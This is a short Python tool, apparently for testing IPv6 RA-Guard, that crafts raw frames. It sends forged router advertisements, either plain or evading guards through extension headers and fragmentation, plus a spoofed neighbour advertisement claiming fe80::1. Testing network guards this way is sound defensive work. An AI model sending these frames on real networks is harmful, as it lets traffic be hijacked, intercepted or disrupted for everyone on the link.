#!/usr/bin/python3
# SPDX-License-Identifier: GPL-2.0-or-later
"""What guards are for, by raw frames.

  guard_frames.py ra IFNAME [plain|ext|frag|na]
        a router advertisement: as it is, behind destination options, in two fragments (RFC 7113 2.2);
        or (na) somebody else's neighbour advertisement
"""
import socket, struct, sys
from badframes import ifmac, raw_socket


def checksum(src, dst, body):
    data = src + dst + struct.pack("!II", len(body), 58) + body
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    total = (total >> 16) + (total & 0xFFFF)
    return struct.pack("!H", ~(total + (total >> 16)) & 0xFFFF)


def ra(ifname, how="plain"):
    mac = ifmac(ifname)
    src = bytes.fromhex("fe80") + bytes(6) + bytes([mac[0] ^ 2]) + mac[1:3] + b"\xff\xfe" + mac[3:]
    dst = socket.inet_pton(socket.AF_INET6, "ff02::1")
    prefix = struct.pack("!BBBBIII", 3, 4, 64, 0xC0, 86400, 14400, 0)
    prefix += socket.inet_pton(socket.AF_INET6, "2001:db8:bad::")
    body = struct.pack("!BBHBBHII", 134, 0, 0, 64, 0, 1800, 0, 0) + prefix + b"\1\1" + mac
    if how == "na":
        other = socket.inet_pton(socket.AF_INET6, "fe80::1")
        body = struct.pack("!BBHI", 136, 0, 0, 0x20000000) + other + b"\2\1" + mac
    body = body[:2] + checksum(src, dst, body) + body[4:]
    options = bytes([58, 0, 1, 4, 0, 0, 0, 0])
    packets = {"plain": [(58, body)], "na": [(58, body)], "ext": [(60, options + body)],
               "frag": [(44, struct.pack("!BBHI", 60, 0, 1, 99) + options),
                        (44, struct.pack("!BBHI", 60, 0, 8, 99) + body)]}[how]
    s = raw_socket(ifname)
    for nxt, data in packets:
        s.send(b"\x33\x33\0\0\0\1" + mac + b"\x86\xdd" +
               struct.pack("!IHBB", 0x60000000, len(data), nxt, 255) + src + dst + data)


if __name__ == "__main__":
    {"ra": ra}[sys.argv[1]](*sys.argv[2:])
